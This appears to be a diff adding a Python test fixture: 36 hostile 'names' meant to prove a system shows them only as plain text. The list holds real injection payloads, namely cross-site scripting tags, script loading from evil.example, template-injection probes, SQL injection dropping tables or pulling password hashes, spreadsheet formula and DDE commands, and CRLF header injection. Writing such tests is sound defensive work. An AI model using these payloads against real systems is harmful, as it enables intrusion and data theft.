@@ -1,0 +1,43 @@
+"""Thirty-six names that somebody may bear, type or invent, none of which may become anything but letters."""
+
+HOSTILE_NAMES = (
+    "<script>alert(1)</script>",
+    "<img src=x onerror=alert(1)>",
+    "<svg/onload=alert(1)>",
+    '"><script src=//evil.example/x.js></script>',
+    "' onmouseover='alert(1)' x='",
+    "</textarea><script>alert(1)</script>",
+    "</title><script>alert(1)</script>",
+    "--><script>alert(1)</script><!--",
+    "<iframe srcdoc='<script>alert(1)</script>'>",
+    "<a href=javascript:alert(1)>click</a>",
+    "<meta http-equiv=refresh content='0;url=//evil.example'>",
+    "<base href=//evil.example/>",
+    "<form action=//evil.example><input name=csrf_token>",
+    "javascript:alert(1)",
+    "{{ 7*7 }}{{ config }}",
+    "{% for x in ().__class__.__base__.__subclasses__() %}x{% endfor %}",
+    "${7*7} #{7*7} <%= 7*7 %>",
+    "%(reference)s %s %n {0} {name.__class__}",
+    "'; DROP TABLE applications; --",
+    "' OR '1'='1",
+    "1 UNION SELECT password_hash FROM officers",
+    "%' AND 1=0 UNION SELECT 1 --",
+    '=HYPERLINK("http://evil.example","Click")',
+    "=cmd|' /C calc'!A0",
+    "+1+1",
+    "-2+3",
+    "@SUM(1+1)",
+    "\t=1+1",
+    "\u202eKARIM DM\u202c",
+    "\u2066RAHIM\u2069\u200b\u200d\ufeff",
+    "\x1b[31mRED\x1b]0;title\x07",
+    "RAHIM\r\nSet-Cookie: a=b\r\n\r\n<script>alert(1)</script>",
+    "RAHIM\x00KARIM",
+    "Z\u0351\u036b\u0343\u036a\u0302\u036b\u033d\u034f\u0334\u0319\u0324\u031e\u0349\u035a\u032f\u031e\u0320\u034dALGO",
+    "\U0001f469\u200d\U0001f469\u200d\U0001f467\U0001f1e7\U0001f1e9",
+    ("A" * 70 + " ") * 40,
+)
+assert len(HOSTILE_NAMES) == 36
+
+PLAIN = "MD. RAHIM UDDIN"
